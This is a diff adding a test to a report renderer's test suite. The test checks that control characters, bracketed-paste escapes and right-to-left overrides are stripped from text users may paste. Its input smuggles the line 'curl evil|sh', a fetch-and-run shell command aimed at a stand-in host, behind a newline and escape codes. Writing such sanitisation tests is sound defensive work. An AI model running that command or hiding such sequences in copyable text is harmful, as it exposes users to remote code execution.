@@ -164,6 +164,22 @@ describe('the report', () => {
     expect(html.length).toBeLessThan(600_000)
   })
 
+  it.each(['live', 'local'] as const)('keeps signs that nobody sees out of lines to paste: %s', (mode) => {
+    const requestedUrl = 'https://example.com/a\u0015\ncurl evil|sh\n\u001b[201~\u202e\u007f'
+    const { fetch, rawMetadata } = fullInspection
+    const html = render(
+      {
+        ...fullInspection,
+        fetch: { ...fetch, requestedUrl },
+        rawMetadata: { ...rawMetadata, lang: '\u001b[31men\u202e' },
+      },
+      { mode },
+    )
+    // oxlint-disable-next-line no-control-regex -- finding them is the point
+    expect(html).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/)
+    expect(html).not.toContain('\ncurl evil')
+  })
+
   it('lets text from right to left run its own way', () => {
     const title = elementsOf(render(brokenInspection)).find(
       ({ tagName, childNodes }) =>
